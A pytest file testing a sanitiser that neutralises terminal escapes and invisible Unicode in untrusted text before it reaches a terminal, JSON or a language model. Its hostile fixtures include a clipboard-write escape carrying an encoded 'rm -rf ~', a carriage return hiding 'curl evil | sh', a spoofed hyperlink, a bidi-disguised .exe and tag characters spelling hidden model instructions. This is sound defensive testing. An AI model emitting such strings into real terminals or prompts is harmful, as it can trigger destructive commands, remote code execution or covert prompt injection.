"""What others wrote, before a terminal, a JSON reader or a model gets it."""

from __future__ import annotations

import json
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragqa.safety.untrusted import for_line, for_model, for_terminal, to_json

HOSTILE = {
    "colour": "\x1b[31mred\x1b[0m",
    "colour in one C1 character": "\x9b31mred",
    "window title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "clipboard in C1": "\x9d52;c;cm0gLXJmIH4=\x9c",
    "device control": "\x1bP$q\x22p\x1b\\",
    "device control in C1": "\x90$q\x9c",
    "back over the line": "safe\rcurl evil | sh",
    "backspace": "yes\b\b\bno",
    "delete": "a\x7fb",
    "bell": "\x07",
    "null": "a\0b",
    "override": "invoice\u202efdp.exe",
    "isolate": "\u2066a\u2067b\u2069",
    "Arabic letter mark": "a\u061cb",
    "marks": "a\u200e\u200fb",
    "line separator": "a\u2028b\u2029c",
    "next line": "a\x85b",
    "annotation": "\ufff9seen\ufffahidden\ufffb",
    "tags": "".join(chr(0xE0000 + ord(char)) for char in "obey"),
    "word joiner": "a\u2060\u2061\u2064b",
    "byte order mark": "a\ufeffb",
    "fillers": "a\u115f\u1160\u3164\uffa0b",
    "zero-width space": "pay\u200bpal",
    "soft hyphen": "pay\xadpal",
    "lone surrogate": "a\ud83db",
}
# What writing systems and emoji need, and what only looks like a control.
LEGITIMATE = [
    "naïve – “quoted” …",
    "نمی\u200cخواهم",
    "क्\u200dष",
    "\U0001f469\u200d\U0001f4bb ❤\ufe0f\u200d\U0001f525",
    "葛\U000e0100城",
    "ᠠ\u180bᠨ\u180eᠠ",
    "\u0600١٢",
    "تم العثور, שלום",
    "two\nlines\tand a tab",
]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_acts_or_hides_is_seen_and_keeps_its_place(text: str) -> None:
    shown = for_terminal(text)
    assert len(shown) == len(text)
    assert shown != text
    assert [(a, b) for a, b in zip(text, shown, strict=True) if a != b and b not in "\ufffd- "] == []
    assert not any(unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in shown)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_model_is_not_given_it(text: str) -> None:
    read = for_model(text)
    assert read != text
    assert not any(
        unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in read if char != "\n"
    )


@pytest.mark.parametrize("text", LEGITIMATE)
def test_text_of_every_script_stays(text: str) -> None:
    assert for_terminal(text) == text
    assert for_model(text) == text
    assert json.dumps(text, ensure_ascii=False) == to_json(text)


def test_of_all_characters_only_these_invisible_ones_stay() -> None:
    kept = [
        char
        for char in map(chr, range(sys.maxunicode + 1))
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") and for_terminal(char) == char
    ]
    names = {unicodedata.name(char, repr(char)) for char in kept}
    # Signs that are drawn, in Arabic, Syriac, Kaithi and Egyptian; the joiners; tab and newline.
    assert {name for name in names if not name.startswith(("ARABIC", "SYRIAC", "KAITHI", "EGYPTIAN"))} == {
        "'\\t'", "'\\n'", "ZERO WIDTH JOINER", "ZERO WIDTH NON-JOINER", "MONGOLIAN VOWEL SEPARATOR",
    }  # fmt: skip


def test_a_soft_hyphen_and_a_zero_width_space_are_shown_as_what_they_stand_for() -> None:
    assert for_terminal("Donau\xaddampf ไทย\u200bคำ") == "Donau-dampf ไทย คำ"


def test_a_line_is_one_line() -> None:
    text = "title\n  2. Another hit\t\r\n\x0b\x0c\x85\u2028end"
    assert len(for_line(text)) == len(text)
    assert for_line(text).splitlines() == [for_line(text)]


def test_all_ends_of_lines_become_newlines_for_a_model() -> None:
    assert for_model("a\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h\ni") == "a\nb\nc\nd\ne\nf\ng\nh\ni"


@pytest.mark.parametrize("carrier", ["\ufe0f", "\U000e0100", "\u200c", "\u200d"])
def test_joiners_and_selectors_spell_no_hidden_text(carrier: str) -> None:
    hidden = "\u200c\u200d" * 40 + "".join(map(chr, range(0xE0100, 0xE0140)))
    assert len(for_model(f"\U0001f600{carrier}{hidden}!")) <= len("\U0001f600\ufe0f\u200d!")
    assert for_model(f"\n{carrier}x {carrier}y") == "\nx y"


@given(st.text() | st.text(alphabet="".join(HOSTILE.values()) + "".join(LEGITIMATE)))
def test_doing_it_twice_changes_nothing(text: str) -> None:
    assert for_model(for_model(text)) == for_model(text)
    assert for_terminal(for_terminal(text)) == for_terminal(text)
    assert len(for_terminal(text)) == len(text)


@given(
    st.recursive(
        st.text() | st.sampled_from(sorted(HOSTILE.values())) | st.integers() | st.none(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
        max_leaves=8,
    )
)
def test_json_reads_back_the_same_and_prints_nothing_unsafe(value: object) -> None:
    for indent in (None, 2):
        text = to_json(value, indent)
        assert json.loads(text) == value
        assert for_terminal(text) == text


def test_an_astral_character_is_escaped_as_two_surrogates() -> None:
    assert to_json("\U000e0041\x9bé") == '"\\udb40\\udc41\\u009bé"'


def test_importing_it_loads_nothing_heavy() -> None:
    code = "import sys, ragqa.safety.untrusted; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert not {"torch", "llm", "numpy", "sqlite_utils"} & set(loaded.split())
